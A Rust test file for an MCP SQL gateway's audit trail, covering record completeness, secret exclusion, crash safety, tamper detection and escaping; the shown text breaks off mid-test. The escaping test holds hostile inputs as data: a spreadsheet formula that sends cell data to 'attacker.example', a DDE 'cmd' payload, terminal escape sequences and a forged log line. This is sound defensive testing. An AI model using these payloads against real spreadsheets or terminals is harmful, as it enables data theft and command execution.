//! The audit trail, end to end: every request kind leaves exactly one record (HTTP refusals
//! included) with who, what, the SQL sent and run, and the outcome; no secret reaches the store;
//! a kill -9 under concurrent load loses no replied call's record; edits, deletions, insertions
//! and reorderings are each found by `audit verify`; prune keeps the chain verifiable; a store
//! that cannot be written fails calls closed. SQLite and PostgreSQL stores.
#![allow(clippy::disallowed_methods)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use rmcp::ServiceExt;
use rmcp::transport::StreamableHttpClientTransport;
use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
use serde_json::{Value, json};
use sqlx::Connection;

use common::mcp::{call, error_code, http_server, text, try_call};
use sqlwarden::audit::{AuditRecord, Chain, Decision};
use sqlwarden::store::Store;

/// `sqlwarden --config CONFIG ARGS...` with `env`: (success, stdout, stderr).
fn cli(config: &Path, args: &[&str], env: &[(&str, &str)]) -> (bool, String, String) {
    let mut c = Command::new(common::bin());
    c.arg("--config").arg(config).args(args);
    c.env_remove("SQLWARDEN_AUDIT_KEY")
        .env_remove("SQLWARDEN_STORE_URL");
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c.output().expect("run sqlwarden");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn export(config: &Path) -> Vec<Value> {
    let (ok, out, err) = cli(config, &["audit", "export", "--format", "jsonl"], &[]);
    assert!(ok, "{err}");
    out.lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect()
}

fn assert_verifies(config: &Path) {
    let (ok, out, err) = cli(config, &["audit", "verify"], &[]);
    assert!(ok && out.contains("audit trail verified"), "{out}{err}");
}

fn policies_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("policies")
}

/// A config serving the demo SQLite database with the demo policies, store per `store_url`.
/// Without `[server]` in `extra`, HTTP callers are analysts of region north (no auth).
fn config(dir: &Path, extra: &str, store_url: Option<&str>) -> PathBuf {
    std::fs::create_dir_all(dir).expect("config dir");
    let extra = if extra.contains("[server]") {
        extra.to_string()
    } else {
        format!("[server]\nrole = \"analyst\"\nattrs = {{ region = \"north\" }}\n{extra}")
    };
    let store = store_url
        .map(|u| format!("[store]\nurl = \"{u}\"\n"))
        .unwrap_or_default();
    common::mcp::config_file(
        dir,
        &common::sqlite_url(&common::sqlite_demo()),
        &format!(
            "[policies]\ndir = \"{}\"\n{extra}\n{store}",
            policies_dir().display()
        ),
    )
}

async fn token_client(url: &str, token: &str) -> common::mcp::Client {
    let transport = StreamableHttpClientTransport::from_config(
        StreamableHttpClientTransportConfig::with_uri(url.to_string())
            .auth_header(token.to_string()),
    );
    ().serve(transport).await.expect("initialize")
}

async fn raw_post(url: &str, headers: &[(&str, &str)], body: String) -> u16 {
    let mut req = reqwest::Client::new()
        .post(url)
        .header("content-type", "application/json")
        .header("accept", "application/json, text/event-stream")
        .header("mcp-protocol-version", "2025-06-18")
        .body(body);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    req.send().await.expect("request").status().as_u16()
}

/// A POST that declares a 5 MiB body: the status of the answer. (Raw TCP: the server answers
/// before reading such a body, and an HTTP client still writing it may see a broken pipe.)
async fn oversized_post(base: &str, bearer: &str) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = base.trim_start_matches("http://");
    let mut tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let head = format!(
        "POST /mcp HTTP/1.1\r\nhost: {addr}\r\nauthorization: {bearer}\r\n\
         content-type: application/json\r\naccept: application/json, text/event-stream\r\n\
         content-length: {}\r\n\r\n{{\"jsonrpc\":",
        5 << 20
    );
    tcp.write_all(head.as_bytes()).await.expect("write");
    let mut reply = vec![0u8; 1024];
    let n = tcp.read(&mut reply).await.expect("read");
    let text = String::from_utf8_lossy(&reply[..n]).to_string();
    text.split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("a status line, got {text:?}"))
}

/// Refusals nobody authenticated are recorded within a budget: one address may have 20 a
/// minute recorded (as many failed authentications as it may have), the rest are counted.
/// One record each let a client that only declared `Content-Length: 5000000` write 200,000
/// records, a gigabyte of store, in 20 seconds (red-team finding).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refusals_nobody_authenticated_cannot_fill_the_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = format!("sqlite://{}", dir.path().join("store.db").display());
    let cfg = config(&dir.path().join("cfg"), "", Some(&store));
    let server = http_server(&cfg).await;
    for _ in 0..60 {
        assert_eq!(oversized_post(&server.base, "Bearer x").await, 413);
    }
    let unrecorded =
        common::mcp::metric(&server.base, "sqlwarden_audit_refusals_unrecorded_total").await;
    drop(server);
    let records = export(&cfg);
    let refused = records.iter().filter(|r| r["http_status"] == 413).count();
    assert_eq!(refused, 20, "{records:#?}");
    assert_eq!(unrecorded, 40.0);
    assert_verifies(&cfg);
}

fn find<'a>(records: &'a [Value], pred: impl Fn(&Value) -> bool, what: &str) -> &'a Value {
    let found: Vec<&Value> = records.iter().filter(|r| pred(r)).collect();
    assert_eq!(
        found.len(),
        1,
        "exactly one record for {what}: {records:#?}"
    );
    found[0]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_request_kind_has_exactly_one_record_and_no_secret() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "[server]\nauth = \"token\"\n", None);
    let (ok, out, err) = cli(
        &cfg,
        &[
            "token",
            "create",
            "--role",
            "analyst",
            "--principal",
            "ana",
            "--attr",
            "region=north",
            "--json",
        ],
        &[],
    );
    assert!(ok, "{err}");
    let issued: Value = serde_json::from_str(&out).expect("json");
    let (token_id, token) = (
        issued["id"].as_str().expect("id").to_string(),
        issued["token"].as_str().expect("token").to_string(),
    );
    let server = http_server(&cfg).await;
    let client = token_client(&server.url, &token).await;

    const SECRET_PARAM: &str = "hush-hush-parameter-value";
    let allowed = "SELECT count(*) AS n FROM orders";
    let with_param = "SELECT count(*) AS n FROM orders WHERE status = ?1";
    let denied = "SELECT email FROM customers";
    let failing = "SELECT abs(-9223372036854775807 - 1) AS x";
    let r = call(&client, "query", json!({"sql": allowed})).await;
    assert_eq!(error_code(&r), None, "{}", text(&r));
    let r = call(
        &client,
        "query",
        json!({"sql": with_param, "params": [SECRET_PARAM]}),
    )
    .await;
    assert_eq!(error_code(&r), None, "{}", text(&r));
    let r = call(&client, "query", json!({"sql": denied})).await;
    assert_eq!(error_code(&r).as_deref(), Some("policy_denied"));
    let r = call(&client, "query", json!({"sql": failing})).await;
    assert_eq!(
        error_code(&r).as_deref(),
        Some("database_error"),
        "{}",
        text(&r)
    );
    let r = call(
        &client,
        "explain_query",
        json!({"sql": "SELECT id FROM orders"}),
    )
    .await;
    assert_eq!(error_code(&r), None, "{}", text(&r));
    let r = call(&client, "list_tables", json!({})).await;
    assert_eq!(error_code(&r), None);
    let r = call(&client, "describe_table", json!({"table": "orders"})).await;
    assert_eq!(error_code(&r), None);
    // Refused by the protocol layer before any tool runs.
    let unknown = try_call(&client, "drop_everything", json!({})).await;
    assert!(unknown.is_err());
    let wrong_type = try_call(&client, "query", json!({"sql": 5})).await;
    // (an argument that fails the schema is an error the model can act on: a tool result)
    assert!(wrong_type.is_err() || wrong_type.is_ok_and(|r| r.is_error == Some(true)));
    // Refused at the HTTP level.
    let list = r#"{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{}}"#.to_string();
    assert_eq!(raw_post(&server.url, &[], list.clone()).await, 401);
    let bearer = format!("Bearer {token}");
    assert_eq!(
        raw_post(
            &server.url,
            &[
                ("authorization", &bearer),
                ("origin", "https://evil.example")
            ],
            list.clone()
        )
        .await,
        403
    );
    assert_eq!(oversized_post(&server.base, &bearer).await, 413);
    // Params no handler can read (not an object; no tool name): refused before anything ran,
    // recorded all the same.
    for body in [
        r#"{"jsonrpc":"2.0","id":21,"method":"tools/call","params":["query","SELECT 1"]}"#,
        r#"{"jsonrpc":"2.0","id":22,"method":"tools/call","params":{"arguments":{}}}"#,
        r#"{"jsonrpc":"2.0","id":23,"method":"prompts/get","params":["ask_data"]}"#,
    ] {
        let status = raw_post(&server.url, &[("authorization", &bearer)], body.to_string()).await;
        assert_eq!(status, 200, "{body}");
    }
    // Refused by the transport: a client that does not take SSE, a body that is not JSON.
    let call = r#"{"jsonrpc":"2.0","id":24,"method":"tools/call","params":{"name":"list_tables","arguments":{}}}"#;
    // (and by its own header checks: an unsupported MCP-Protocol-Version)
    for (accept, content_type, version, expected) in [
        ("application/json", "application/json", "2025-06-18", 406),
        (
            "application/json, text/event-stream",
            "text/plain",
            "2025-06-18",
            415,
        ),
        (
            "application/json, text/event-stream",
            "application/json",
            "1999-01-01",
            400,
        ),
    ] {
        let status = reqwest::Client::new()
            .post(&server.url)
            .header("authorization", &bearer)
            .header("accept", accept)
            .header("content-type", content_type)
            .header("mcp-protocol-version", version)
            .body(call)
            .send()
            .await
            .expect("request")
            .status();
        assert_eq!(status.as_u16(), expected);
    }
    // A stream of server messages and the end of a session, which a server that keeps no
    // sessions does not offer.
    for method in [reqwest::Method::GET, reqwest::Method::DELETE] {
        let status = reqwest::Client::new()
            .request(method.clone(), &server.url)
            .header("authorization", &bearer)
            .header("accept", "text/event-stream")
            .send()
            .await
            .expect("request")
            .status();
        assert_eq!(status.as_u16(), 405, "{method}");
    }
    // Bodies that are not one JSON-RPC message.
    for body in ["{\"jsonrpc\": \"2.0\", \"id\": 25, \"method\": ", "[]"] {
        let status = raw_post(&server.url, &[("authorization", &bearer)], body.to_string()).await;
        assert_eq!(status, 400, "{body}");
    }
    drop(client);

    let records = export(&cfg);
    assert_eq!(records.len(), 22, "one record per request: {records:#?}");
    let ids: std::collections::HashSet<&str> = records
        .iter()
        .filter_map(|r| r["request_id"].as_str())
        .collect();
    assert_eq!(ids.len(), records.len(), "request ids are unique");
    for r in records.iter().filter(|r| r["method"] == "tools/call") {
        assert_eq!(r["principal"], "ana", "{r}");
        assert_eq!(r["role"], "analyst");
        assert_eq!(r["token_id"], token_id.as_str());
        assert_eq!(r["transport"], "http");
        assert_eq!(r["client"], "127.0.0.1");
    }
    let a = find(&records, |r| r["sql"] == allowed, "the allowed query");
    assert_eq!(a["decision"], "allow");
    assert_eq!(a["rows"], 1);
    assert_eq!(a["database"], "main");
    let governed = a["governed_sql"].as_str().expect("governed SQL recorded");
    assert!(
        governed != allowed && governed.contains("region = ?1"),
        "{governed}"
    );
    let p = find(
        &records,
        |r| r["sql"] == with_param,
        "the query with a parameter",
    );
    assert_eq!(p["param_count"], 1);
    assert_eq!(p["params"], Value::Null);
    let d = find(&records, |r| r["sql"] == denied, "the denied query");
    assert_eq!(
        (
            d["decision"].as_str(),
            d["code"].as_str(),
            d["rule"].as_str()
        ),
        (Some("deny"), Some("policy_denied"), Some("column_hidden"))
    );
    assert_eq!(d["governed_sql"], Value::Null, "nothing ran");
    let f = find(&records, |r| r["sql"] == failing, "the failing query");
    assert_eq!(
        (f["decision"].as_str(), f["code"].as_str()),
        (Some("error"), Some("database_error"))
    );
    find(
        &records,
        |r| r["tool"] == "explain_query" && r["decision"] == "allow",
        "explain_query",
    );
    find(
        &records,
        |r| r["tool"] == "list_tables" && r["decision"] == "allow",
        "list_tables",
    );
    find(
        &records,
        |r| r["tool"] == "describe_table" && r["decision"] == "allow",
        "describe_table",
    );
    find(
        &records,
        |r| r["tool"] == "drop_everything" && r["decision"] == "error",
        "the unknown tool",
    );
    find(
        &records,
        |r| r["tool"] == "query" && r["code"] == "invalid_params",
        "the ill-typed call",
    );
    let unreadable: Vec<_> = records
        .iter()
        .filter(|r| {
            r["code"] == "invalid_params" && r["tool"].as_str().unwrap_or_default().is_empty()
        })
        .map(|r| {
            (
                r["method"].as_str(),
                r["principal"].as_str(),
                r["decision"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        unreadable,
        [
            (Some("tools/call"), Some("ana"), Some("error")),
            (Some("tools/call"), Some("ana"), Some("error")),
            (Some("prompts/get"), Some("ana"), Some("error")),
        ],
        "{records:#?}"
    );
    let unauthorized = find(&records, |r| r["http_status"] == 401, "the 401");
    assert_eq!(unauthorized["principal"], Value::Null);
    assert_eq!(unauthorized["decision"], "deny");
    let forbidden = find(&records, |r| r["http_status"] == 403, "the 403");
    assert_eq!(
        forbidden["principal"], "ana",
        "authenticated before the Origin check"
    );
    find(&records, |r| r["http_status"] == 413, "the 413");
    let not_allowed: Vec<_> = records
        .iter()
        .filter(|r| r["http_status"] == 405)
        .map(|r| (r["code"].as_str(), r["principal"].as_str()))
        .collect();
    assert_eq!(
        not_allowed,
        [(Some("method_not_allowed"), Some("ana")); 2],
        "GET and DELETE"
    );
    for (status, code) in [
        (406, "not_acceptable"),
        (415, "unsupported_media_type"),
        (400, "parse_error"),
        (400, "invalid_request"),
        (400, "bad_request"),
    ] {
        let r = find(
            &records,
            |r| r["http_status"] == status && r["code"] == code,
            code,
        );
        assert_eq!(
            (r["code"].as_str(), r["principal"].as_str()),
            (Some(code), Some("ana"))
        );
    }
    assert_verifies(&cfg);

    // No secret in the store: not the token, not the parameter value.
    drop(server);
    let mut bytes = Vec::new();
    for entry in std::fs::read_dir(dir.path()).expect("dir") {
        let path = entry.expect("entry").path();
        if path
            .file_name()
            .and_then(|n| n.to_str())
            .is_some_and(|n| n.starts_with("store.db"))
        {
            bytes.extend(std::fs::read(&path).expect("read store"));
        }
    }
    let haystack = String::from_utf8_lossy(&bytes);
    assert!(
        haystack.contains(allowed),
        "the store file is what was searched"
    );
    assert!(!haystack.contains(&token), "the token reached the store");
    assert!(
        !haystack.contains(SECRET_PARAM),
        "a parameter value reached the store"
    );
}

/// Several clients call at once; the server is killed with SIGKILL mid-load. Every call that
/// got a reply has exactly one record, and the chain verifies.
async fn kill_nine_under_load(store_url: Option<&str>) {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "", store_url);
    let mut server = http_server(&cfg).await;
    let stop = Arc::new(AtomicBool::new(false));
    let mut tasks = Vec::new();
    for worker in 0..6 {
        let url = server.url.clone();
        let stop = stop.clone();
        tasks.push(tokio::spawn(async move {
            let mut replied = Vec::new();
            let Ok(client) = ().serve(StreamableHttpClientTransport::from_uri(url)).await else {
                return replied;
            };
            for i in 0.. {
                if stop.load(Ordering::SeqCst) || i > 100_000 {
                    break;
                }
                let sql = format!("SELECT {} AS k", worker * 1_000_000 + i);
                match try_call(&client, "query", json!({"sql": sql})).await {
                    Ok(r) if r.is_error != Some(true) => replied.push(sql),
                    _ => break,
                }
            }
            replied
        }));
    }
    // Let the load run, then kill the server while calls are in flight.
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    server.kill();
    stop.store(true, Ordering::SeqCst);
    let mut replied = Vec::new();
    for t in tasks {
        replied.extend(t.await.expect("worker"));
    }
    assert!(replied.len() > 20, "the load ran ({} calls)", replied.len());

    let records = export(&cfg);
    let mut seen = std::collections::HashMap::new();
    for r in &records {
        if let Some(sql) = r["sql"].as_str() {
            *seen.entry(sql.to_string()).or_insert(0) += 1;
        }
    }
    for sql in &replied {
        assert_eq!(
            seen.get(sql),
            Some(&1),
            "the replied call {sql} has exactly one record"
        );
    }
    assert!(seen.values().all(|&n| n == 1), "no record is duplicated");
    assert_verifies(&cfg);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kill_nine_under_load_loses_no_replied_record_sqlite_store() {
    kill_nine_under_load(None).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kill_nine_under_load_loses_no_replied_record_postgres_store() {
    let pg = common::pg::cluster();
    let url = pg.url(&pg.fresh_db());
    kill_nine_under_load(Some(&url)).await;
}

/// A store with five records in three batches, written by the library's own chain: the second
/// batch moves the head the first one returned, the third starts from that same (by then stale)
/// head, as after another replica's append, and must fall back to reading the head.
async fn five_records(url: &str, chain: &Chain) -> Store {
    let store = Store::open(url).await.expect("open store");
    let batch = |range: std::ops::Range<i64>| -> Vec<AuditRecord> {
        range
            .map(|i| {
                let mut r =
                    AuditRecord::new(&format!("req{i}"), "http", "tools/call", Decision::Allow);
                r.time_ms = i * 1_000;
                r.sql = Some(format!("SELECT {i}"));
                r.rows = Some(i);
                r
            })
            .collect()
    };
    let first = store
        .audit_append(&mut batch(1..3), chain, None)
        .await
        .expect("append");
    let second = store
        .audit_append(&mut batch(3..5), chain, Some(&first))
        .await
        .expect("append from the known head");
    assert_eq!(second.seq, 4);
    let third = store
        .audit_append(&mut batch(5..6), chain, Some(&first))
        .await
        .expect("append from a stale head");
    assert_eq!(third.seq, 5, "a stale head is re-read, not reused");
    store
}

async fn exec(url: &str, sql: &str) {
    let sql = sqlx::AssertSqlSafe(sql.to_string());
    if url.starts_with("sqlite") {
        let mut c = sqlx::SqliteConnection::connect(url).await.expect("connect");
        sqlx::raw_sql(sql).execute(&mut c).await.expect("tamper");
    } else {
        let mut c = sqlx::PgConnection::connect(url).await.expect("connect");
        sqlx::raw_sql(sql).execute(&mut c).await.expect("tamper");
    }
}

const COPY_COLUMNS: &str = "time_ms, request_id, transport, client, principal, role, token_id, \
     method, tool, database_name, sql_text, governed_sql, param_count, params, decision, rule, \
     code, sqlstate, http_status, rows_returned, bytes, truncated, cached, duration_us, \
     prev_hash, hash";

async fn tampering_is_detected(store_url: impl Fn() -> String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases = [
        ("edited", "UPDATE audit_log SET rows_returned = 999 WHERE seq = 3".to_string(), "record 3", "edited"),
        ("deleted", "DELETE FROM audit_log WHERE seq = 3".to_string(), "record 3", "missing"),
        (
            "inserted",
            format!(
                "UPDATE audit_log SET seq = seq + 10 WHERE seq >= 4; \
                 UPDATE audit_log SET seq = seq - 9 WHERE seq >= 14; \
                 INSERT INTO audit_log (seq, {COPY_COLUMNS}) SELECT 4, {COPY_COLUMNS} FROM audit_log WHERE seq = 2"
            ),
            "record 4",
            "does not link",
        ),
        (
            "reordered",
            "UPDATE audit_log SET seq = 100 WHERE seq = 2; UPDATE audit_log SET seq = 2 WHERE seq = 3; \
             UPDATE audit_log SET seq = 3 WHERE seq = 100"
                .to_string(),
            "record 2",
            "does not link",
        ),
        ("cut from the end", "DELETE FROM audit_log WHERE seq = 5".to_string(), "record 5", "removed from the end"),
    ];
    for (i, (what, sql, at, why)) in cases.iter().enumerate() {
        let url = store_url();
        five_records(&url, &Chain::new(None)).await;
        let cfg = config(&dir.path().join(format!("c{i}")), "", Some(&url));
        assert_verifies(&cfg);
        exec(&url, sql).await;
        let (ok, _, err) = cli(&cfg, &["audit", "verify"], &[]);
        assert!(!ok, "{what}: verify must fail");
        assert!(err.contains(at) && err.contains(why), "{what}: {err}");
    }

    // Keyed: only the key holder can rebuild the chain.
    let url = store_url();
    let key = "an audit key the database administrator does not have";
    let store = five_records(&url, &Chain::new(Some(key.as_bytes()))).await;
    let cfg = config(&dir.path().join("keyed"), "", Some(&url));
    let with_key = [("SQLWARDEN_AUDIT_KEY", key)];
    let (ok, out, err) = cli(&cfg, &["audit", "verify"], &with_key);
    assert!(ok && out.contains("keyed"), "{out}{err}");
    let (ok, _, err) = cli(&cfg, &["audit", "verify"], &[]);
    assert!(!ok && err.contains("SQLWARDEN_AUDIT_KEY"), "{err}");
    // An administrator edits record 3 and rebuilds the whole chain without the key.
    let mut records = store.audit_page(0, 100).await.expect("read");
    records[2].rows = Some(0);
    exec(
        &url,
        "DELETE FROM audit_log; UPDATE audit_head SET seq = 0, hash = 'genesis', mac = ''",
    )
    .await;
    store
        .audit_append(&mut records, &Chain::new(None), None)
        .await
        .expect("rebuild");
    let (ok, _, err) = cli(&cfg, &["audit", "verify"], &with_key);
    assert!(
        !ok && err.contains("record 1") && err.contains("without the audit key"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tampering_is_detected_sqlite_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = std::sync::atomic::AtomicUsize::new(0);
    let base = dir.path().to_path_buf();
    tampering_is_detected(move || {
        format!(
            "sqlite://{}",
            base.join(format!("s{}.db", n.fetch_add(1, Ordering::SeqCst)))
                .display()
        )
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tampering_is_detected_postgres_store() {
    let pg = common::pg::cluster();
    tampering_is_detected(|| pg.url(&pg.fresh_db())).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prune_keeps_the_rest_verifiable() {
    let dir = tempfile::tempdir().expect("tempdir");
    let url = format!("sqlite://{}", dir.path().join("store.db").display());
    five_records(&url, &Chain::new(None)).await;
    let cfg = config(dir.path(), "", Some(&url));
    let (ok, _, err) = cli(
        &cfg,
        &["audit", "prune", "--before", "1970-01-01T00:00:03Z"],
        &[],
    );
    assert!(ok && err.contains("pruned 2"), "{err}");
    assert_verifies(&cfg);
    let left: Vec<i64> = export(&cfg)
        .iter()
        .filter_map(|r| r["seq"].as_i64())
        .collect();
    assert_eq!(left, vec![3, 4, 5]);
    // Deleting the new first record is still caught.
    exec(&url, "DELETE FROM audit_log WHERE seq = 3").await;
    let (ok, _, err) = cli(&cfg, &["audit", "verify"], &[]);
    assert!(!ok && err.contains("record 3"), "{err}");
}

/// Hold the SQLite store's write lock in `dir`, as another process would, until `ROLLBACK`.
async fn lock_store(dir: &Path) -> sqlx::SqliteConnection {
    let url = format!("sqlite://{}", dir.join("store.db").display());
    let mut lock = sqlx::SqliteConnection::connect(&url)
        .await
        .expect("connect");
    sqlx::raw_sql("BEGIN EXCLUSIVE")
        .execute(&mut lock)
        .await
        .expect("lock");
    lock
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_store_that_cannot_be_written_fails_calls_closed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "", None);
    let server = http_server(&cfg).await;
    let client = common::mcp::http_client(&server.url).await;
    let r = call(&client, "query", json!({"sql": "SELECT 1 AS one"})).await;
    assert_eq!(error_code(&r), None, "{}", text(&r));
    // Another process holds the store's write lock: records cannot be committed.
    let mut lock = lock_store(dir.path()).await;
    let r = call(&client, "query", json!({"sql": "SELECT 2 AS two"})).await;
    assert_eq!(
        error_code(&r).as_deref(),
        Some("unavailable"),
        "{}",
        text(&r)
    );
    assert!(
        !text(&r).contains("two"),
        "no rows without a record: {}",
        text(&r)
    );
    sqlx::raw_sql("ROLLBACK")
        .execute(&mut lock)
        .await
        .expect("unlock");
    let r = call(&client, "query", json!({"sql": "SELECT 3 AS three"})).await;
    assert_eq!(error_code(&r), None, "{}", text(&r));
    let sqls: Vec<String> = export(&cfg)
        .iter()
        .filter_map(|r| r["sql"].as_str().map(str::to_string))
        .collect();
    assert_eq!(sqls, vec!["SELECT 1 AS one", "SELECT 3 AS three"]);
    assert_verifies(&cfg);
}

/// A store locked for a moment by another process (`audit prune`, `token create`) delays the
/// calls that record meanwhile (the writer waits for the lock, up to 5 s); none fails, and each
/// has its record, in one verifiable chain, once the lock is released.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_store_locked_for_a_moment_delays_calls_and_loses_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "", None);
    let server = http_server(&cfg).await;
    let client = common::mcp::http_client(&server.url).await;
    let r = call(&client, "query", json!({"sql": "SELECT 1 AS one"})).await;
    assert_eq!(error_code(&r), None, "{}", text(&r));
    let mut lock = lock_store(dir.path()).await;
    let locked = std::time::Instant::now();
    let release = tokio::spawn(async move {
        tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
        sqlx::raw_sql("ROLLBACK")
            .execute(&mut lock)
            .await
            .expect("unlock");
    });
    let q = |i: i32| json!({ "sql": format!("SELECT {i} AS n") });
    let replies = tokio::join!(
        call(&client, "query", q(2)),
        call(&client, "query", q(3)),
        call(&client, "query", q(4)),
        call(&client, "query", q(5)),
    );
    for r in [replies.0, replies.1, replies.2, replies.3] {
        assert_eq!(error_code(&r), None, "{}", text(&r));
    }
    assert!(
        locked.elapsed() >= std::time::Duration::from_millis(1500),
        "a reply came before its record could be committed: {:?}",
        locked.elapsed()
    );
    release.await.expect("unlock task");
    let mut sqls: Vec<String> = export(&cfg)
        .iter()
        .filter_map(|r| r["sql"].as_str().map(str::to_string))
        .collect();
    sqls.sort();
    assert_eq!(
        sqls,
        [
            "SELECT 1 AS one",
            "SELECT 2 AS n",
            "SELECT 3 AS n",
            "SELECT 4 AS n",
            "SELECT 5 AS n"
        ]
    );
    assert_verifies(&cfg);
}

/// A SQLite store written by an older sqlwarden (schema version 2, `seq` a BIGINT key beside
/// the rowid) is upgraded in place: same records, same chain, `seq` now the rowid, and appends
/// go on from the old head.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_old_sqlite_store_is_upgraded_with_its_chain() {
    let dir = tempfile::tempdir().expect("tempdir");
    let chain = Chain::new(None);
    let new_url = format!("sqlite://{}", dir.path().join("new.db").display());
    let written = five_records(&new_url, &chain)
        .await
        .audit_page(0, 100)
        .await
        .expect("read");

    // The old store: migrations 1 and 2 only, then the same records and head copied in.
    let old_dir = dir.path().join("migrations-v2");
    std::fs::create_dir_all(&old_dir).expect("mkdir");
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("migrations/sqlite");
    for f in ["0001_tokens.sql", "0002_audit.sql"] {
        std::fs::copy(src.join(f), old_dir.join(f)).expect("copy migration");
    }
    let old_path = dir.path().join("old.db");
    let old_url = format!("sqlite://{}", old_path.display());
    {
        let opts = sqlx::sqlite::SqliteConnectOptions::new()
            .filename(&old_path)
            .create_if_missing(true);
        let mut c = sqlx::SqliteConnection::connect_with(&opts)
            .await
            .expect("connect");
        sqlx::migrate::Migrator::new(old_dir.as_path())
            .await
            .expect("migrator")
            .run(&mut c)
            .await
            .expect("migrate to 2");
    }
    exec(
        &old_url,
        &format!(
            "ATTACH '{}' AS n; INSERT INTO audit_log SELECT * FROM n.audit_log; \
             DELETE FROM audit_head; INSERT INTO audit_head SELECT * FROM n.audit_head",
            dir.path().join("new.db").display()
        ),
    )
    .await;
    let autoindex =
        "SELECT count(*) FROM sqlite_master WHERE name = 'sqlite_autoindex_audit_log_1'";
    let count = |url: String| async move {
        let mut c = sqlx::SqliteConnection::connect(&url)
            .await
            .expect("connect");
        sqlx::query_scalar::<_, i64>(autoindex)
            .fetch_one(&mut c)
            .await
            .expect("count")
    };
    assert_eq!(
        count(old_url.clone()).await,
        1,
        "the old schema keys seq apart"
    );

    let store = Store::open(&old_url).await.expect("open and upgrade");
    assert_eq!(
        store.version().await.expect("version"),
        store.known_version()
    );
    assert_eq!(count(old_url.clone()).await, 0, "seq is the rowid now");
    assert_eq!(store.audit_page(0, 100).await.expect("read"), written);
    let cfg = config(&dir.path().join("cfg"), "", Some(&old_url));
    assert_verifies(&cfg);
    let mut appender = store.file_appender().expect("a file store");
    let mut more = vec![AuditRecord::new(
        "req6",
        "http",
        "tools/call",
        Decision::Deny,
    )];
    let head = appender.append(&mut more, &chain).expect("append");
    assert_eq!(head.seq, 6);
    assert_verifies(&cfg);
    exec(&old_url, "DELETE FROM audit_log WHERE seq = 3").await;
    let (ok, _, err) = cli(&cfg, &["audit", "verify"], &[]);
    assert!(!ok && err.contains("record 3"), "{err}");
}

/// Text a caller chooses (a tool name, SQL) can neither forge lines nor send terminal escape
/// sequences through `audit tail`, nor formulas through `audit export --format csv` (a cell a
/// spreadsheet would run is written as text), and a huge tool name or statement is kept cut
/// short (a flood of them cannot fill the store's disk); the chain still verifies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn caller_text_is_escaped_in_tail_and_bounded_in_the_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "", None);
    let server = http_server(&cfg).await;
    let client = common::mcp::http_client(&server.url).await;
    let forged = "nope\n2026-12-01T00:00:09.999Z  allow  dba/readonly_admin  query  1 rows  1.0 ms  SELECT x";
    assert!(try_call(&client, forged, json!({})).await.is_err());
    let escape = "x\u{1b}[2K\u{1b}[Gfake";
    assert!(try_call(&client, escape, json!({})).await.is_err());
    let r = call(
        &client,
        "query",
        json!({"sql": "SELECT '\u{1b}]0;pwned\u{7}' AS x"}),
    )
    .await;
    assert!(error_code(&r).is_some(), "{}", text(&r));
    // Text a spreadsheet would run as a formula, in a tool name and in SQL.
    let formula_tool = "=HYPERLINK(\"http://attacker.example/\"&A1,\"open\")";
    assert!(try_call(&client, formula_tool, json!({})).await.is_err());
    let formula_sql = "@SUM(1+1)*cmd|' /C calc'!A0";
    let r = call(&client, "query", json!({ "sql": formula_sql })).await;
    assert!(error_code(&r).is_some(), "{}", text(&r));
    let huge_tool = "t".repeat(1 << 20);
    assert!(try_call(&client, &huge_tool, json!({})).await.is_err());
    let huge_sql = format!("SELECT 1 -- {}", "s".repeat(1 << 20));
    let r = call(&client, "query", json!({ "sql": huge_sql })).await;
    assert_eq!(error_code(&r).as_deref(), Some("policy_denied"));
    client.cancel().await.expect("close");
    // Every reply came after its record's commit (`sync`).
    drop(server);

    let (ok, out, err) = cli(&cfg, &["audit", "tail", "-n", "50"], &[]);
    assert!(ok, "{err}");
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
    assert!(out.contains("\\u{1b}"), "{out}");
    // Every record is one line: the forged one is inside the real record's line.
    for line in out.lines() {
        assert!(
            line.starts_with("20") && line.contains("  "),
            "a line that is no record: {line:?}"
        );
    }
    assert!(
        !out.lines()
            .any(|l| l.starts_with("2026-12-01T00:00:09.999Z")),
        "{out}"
    );
